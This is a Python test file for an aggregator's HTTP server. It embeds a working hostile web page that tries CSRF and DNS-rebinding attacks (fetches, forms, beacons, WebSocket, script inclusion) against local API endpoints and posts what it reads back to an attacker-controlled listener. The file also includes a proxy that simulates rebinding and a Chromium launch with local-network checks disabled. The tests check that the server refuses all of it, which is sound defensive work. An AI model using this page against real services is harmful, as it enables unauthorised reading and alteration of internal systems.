"""A hostile page in the operator's browser: a real Chromium, on the aggregator's own listener.

The page tries all that a page can send to another site, and then, under a name that points at this
machine once the page is loaded (DNS rebinding), all that it can send to its own. Each try is made first against a
server that permits everything, where it arrives: so the page works. At the aggregator nothing arrives.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from aggregator.assembly import http_server as http
from aggregator.http.config import HttpConfig
from aggregator.http.operations import OPERATIONS
from tests.aggregator.http_client import door, small_cluster
from tests.aggregator.test_http_alerts import hot
from tests.kit.waiting import within

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(CHROMIUM is None and not os.environ.get("CI"), reason="apt-get install chromium")
PATIENCE = 120.0
EVIL = "evil.example"
SILENCE = {"matchers": ["severity=page"], "who": "page", "why": "evil", "for": "1d"}

PAGE = """<!doctype html><title>cat pictures</title><body><script>
const target = TARGET, home = HOME, silence = JSON.stringify(SILENCE), read = [];
const json = {"Content-Type": "application/json"};
const wait = (seconds) => new Promise(done => setTimeout(done, seconds * 1000));
async function text(what, path, options) {
  try {
    const answer = await fetch(target + path, options);
    const body = await answer.text();
    if (answer.ok && body) read.push(what + ": " + body.slice(0, 80));
  } catch (error) {}
}
function socket() {
  return new Promise(done => {
    const line = new WebSocket(target.replace("http", "ws") + "/api/v1/stream");
    line.onopen = () => { read.push("socket opened"); line.send('{"alerts": true}'); };
    line.onmessage = message => { read.push("socket: " + message.data.slice(0, 80)); done(); };
    line.onerror = () => done();
    setTimeout(done, 5000);
  });
}
function element(tag, field, path) {
  return new Promise(done => {
    const made = document.createElement(tag);
    made.onload = () => { if (tag === "script") read.push("script ran: " + path); done(); };
    made.onerror = done;
    made[field] = target + path;
    document.body.append(made);
    setTimeout(done, 5000);
  });
}
function form(kind, path, name, value) {
  const made = document.createElement("form"), input = document.createElement("input");
  const frame = document.createElement("iframe");
  frame.name = "frame" + Math.random();
  Object.assign(made, {method: "POST", enctype: kind, action: target + path, target: frame.name});
  Object.assign(input, {name, value});
  made.append(input);
  document.body.append(frame, made);
  made.submit();
  return wait(1);
}
(async () => {
  if (REBIND) { await fetch("/rebind"); await wait(0.5); }
  await text("nodes", "/api/v1/nodes");
  await text("metrics", "/metrics");
  await text("nodes without cors", "/api/v1/nodes?", {mode: "no-cors"});
  await text("with a token", "/api/v1/nodes", {headers: {Authorization: "Bearer guess"}});
  await text("silence", "/api/v1/silences", {method: "POST", headers: json, body: silence});
  await text("silence as text", "/api/v1/silences",
             {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: silence});
  await text("reload", "/api/v1/power/reload", {method: "POST", mode: "no-cors", body: "{}"});
  await text("end", "/api/v1/silences/a", {method: "DELETE"});
  await text("test", "/api/v1/channels/oncall/test", {method: "POST", headers: json, body: "{}"});
  navigator.sendBeacon(target + "/api/v1/power/reload?beacon", new Blob(["{}"], {type: "text/plain"}));
  await element("img", "src", "/api/v1/status");
  await element("script", "src", "/api/v1/incidents");
  await element("iframe", "src", "/api/v1/alerts");
  await form("text/plain", "/api/v1/silences", silence.slice(0, -1) + ', "x": "', '"}');
  await form("application/x-www-form-urlencoded", "/api/v1/power/plan", "watts", "1");
  await socket();
  await fetch(home + "/result", {method: "POST", mode: "no-cors", body: JSON.stringify(read)});
})();
</script>"""


class Attacker:
    """The server of the hostile page, and a second address that points elsewhere after the page is loaded."""

    def __init__(self, target: int) -> None:
        self.target = target
        """The port under attack."""
        self.read: asyncio.Future[list[str]] = asyncio.get_running_loop().create_future()
        self.home = self.rebound = 0
        """Ports."""
        self._points_here = True
        self._tasks: set[asyncio.Task[None]] = set()
        self._writers: list[asyncio.StreamWriter] = []

    def page(self, target: str, *, rebind: bool) -> str:
        """Return the page with its targets."""
        words = {"TARGET": target, "HOME": f"http://127.0.0.1:{self.home}", "SILENCE": SILENCE, "REBIND": rebind}
        text = PAGE
        for word, value in words.items():
            text = text.replace(word, json.dumps(value))
        return text

    async def answer(self, request: web.Request) -> web.Response:
        """Serve the page, and receive what it has read."""
        if request.path == "/result":
            if not self.read.done():
                self.read.set_result(json.loads(await request.text()))
            return web.Response()
        page = self.page(f"http://127.0.0.1:{self.target}", rebind=False)
        return web.Response(text=page, content_type="text/html")

    async def rebind(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Serve the page; from then on every connection goes to the target, as with a name that points
        there all of a sudden."""
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        self._writers.append(writer)
        if self._points_here:
            try:
                head = await reader.readuntil(b"\r\n\r\n")
            except asyncio.IncompleteReadError:  # opened ahead, and not needed
                writer.close()
                return
            if head.startswith(b"GET /rebind "):
                self._points_here = False
            page = self.page(f"http://{EVIL}:{self.rebound}", rebind=True).encode()
            writer.write(
                b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                b"Content-Length: %d\r\n\r\n%s" % (len(page), page)
            )
            writer.close()
            return
        there, to = await asyncio.open_connection("127.0.0.1", self.target)
        self._writers.append(to)

        async def pipe(source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
            with suppress(OSError):
                while data := await source.read(65536):
                    sink.write(data)
            sink.close()

        await asyncio.gather(pipe(reader, to), pipe(there, writer))

    async def close(self) -> None:
        """Close the connections that the browser has left open."""
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        for writer in self._writers:
            writer.close()
        for writer in self._writers:
            with suppress(OSError):
                await writer.wait_closed()


@asynccontextmanager
async def attacker(target: int) -> AsyncIterator[Attacker]:
    """Run one."""
    found = Attacker(target)
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", found.answer)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    found.home = runner.addresses[0][1]
    server = await asyncio.start_server(found.rebind, "127.0.0.1", 0)
    found.rebound = server.sockets[0].getsockname()[1]
    try:
        yield found
    finally:
        server.close()
        await found.close()
        await runner.cleanup()


async def visit(folder: Path, attacker: Attacker, *, rebind: bool) -> list[str]:
    """Open the page in a browser; returns what it could read."""
    where = f"http://{EVIL}:{attacker.rebound}/" if rebind else f"http://127.0.0.1:{attacker.home}/"
    browser = await asyncio.create_subprocess_exec(
        str(CHROMIUM),
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-dev-shm-usage",
        "--no-proxy-server",
        f"--user-data-dir={folder}",
        # Newer ones ask the user before a page may reach this machine: the server may not rely on it.
        "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
        f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
        where,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        async with within(PATIENCE):
            return await asyncio.shield(attacker.read)
    finally:
        browser.kill()
        await browser.wait()


KINDS = {
    "GET /api/v1/nodes", "GET /metrics", "POST /api/v1/silences", "POST /api/v1/power/reload",
    "DELETE /api/v1/silences/a", "POST /api/v1/channels/oncall/test", "GET /api/v1/status",
    "GET /api/v1/incidents", "GET /api/v1/alerts", "POST /api/v1/power/plan", "GET /api/v1/stream",
}  # fmt: skip
"""Everything that the page tries."""


@asynccontextmanager
async def credulous() -> AsyncIterator[tuple[int, Counter[str]]]:
    """A server that believes every page: port, and what has arrived."""
    arrived: Counter[str] = Counter()

    async def answer(request: web.Request) -> web.StreamResponse:
        free = {
            "Access-Control-Allow-Origin": "*",
            "Access-Control-Allow-Headers": "*",
            "Access-Control-Allow-Methods": "*",
        }
        if request.method == "OPTIONS":
            return web.Response(headers=free)
        arrived[f"{request.method} {request.path}"] += 1
        if request.path == "/api/v1/stream":
            socket = web.WebSocketResponse()
            await socket.prepare(request)
            await socket.send_str("alerts")
            await socket.close()
            return socket
        return web.Response(text="1", headers=free, content_type="text/javascript")

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", answer)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield runner.addresses[0][1], arrived
    finally:
        await runner.cleanup()


@pytest.mark.parametrize("rebind", [False, True], ids=["another site", "a name that points here"])
async def test_the_page_works_where_a_server_believes_it(tmp_path: Path, rebind: bool) -> None:
    """Otherwise the tests below would pass with a page that does nothing."""
    async with credulous() as (port, arrived), attacker(port) as page:
        read = await visit(tmp_path / "profile", page, rebind=rebind)
    assert set(arrived) >= KINDS
    for what in ("nodes: 1", "metrics: 1", "with a token: 1", "silence: 1", "script ran: ", "socket: alerts"):
        assert any(line.startswith(what) for line in read), (what, read)


@pytest.mark.parametrize("rebind", [False, True], ids=["another site", "a name that points here"])
@pytest.mark.parametrize(
    "config",
    [HttpConfig(listen="127.0.0.1:0"), HttpConfig(listen="0.0.0.0:0", anonymous_read=True)],
    ids=["on loopback", "open to readers"],
)
async def test_a_hostile_page_reads_nothing_and_changes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, config: HttpConfig, rebind: bool
) -> None:
    """No request of it comes as far as a handler, whatever the browser would have let it read."""
    called: Counter[str] = Counter()

    def counted(op: Any) -> Any:
        async def handler(request: web.Request) -> web.StreamResponse:
            called[op.id] += 1
            found: web.StreamResponse = await op.handler(request)
            return found

        return replace(op, handler=handler)

    monkeypatch.setattr(http, "OPERATIONS", tuple(map(counted, OPERATIONS)))
    async with hot(tmp_path / "hot", config) as client:
        async with attacker(client.door.port) as page:
            read = await visit(tmp_path / "profile", page, rebind=rebind)
        assert read == []
        assert called == {}
        assert (await client.get("/api/v1/silences"))["silences"] == []
        assert called == {"silences": 1}  # who is no page comes in
        status, _ = await client.send("POST", "/api/v1/silences", SILENCE)
        assert status == 200
        page_text = (await client.door.text("/metrics"))[1]
    assert "kilowatch_aggregator_http_refused_total{" in page_text


async def test_a_link_that_a_person_follows_is_answered(tmp_path: Path) -> None:
    """The page behind it can't read the answer; the person can."""
    async with door(await small_cluster()) as client:
        browser = await asyncio.create_subprocess_exec(
            str(CHROMIUM),
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-dev-shm-usage",
            "--no-proxy-server",
            f"--user-data-dir={tmp_path / 'profile'}",
            "--dump-dom",
            f"{client.url}/api/v1/nodes",
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.DEVNULL,
        )
        async with within(PATIENCE):
            shown, _ = await browser.communicate()
    assert b'"node":"n1"' in shown
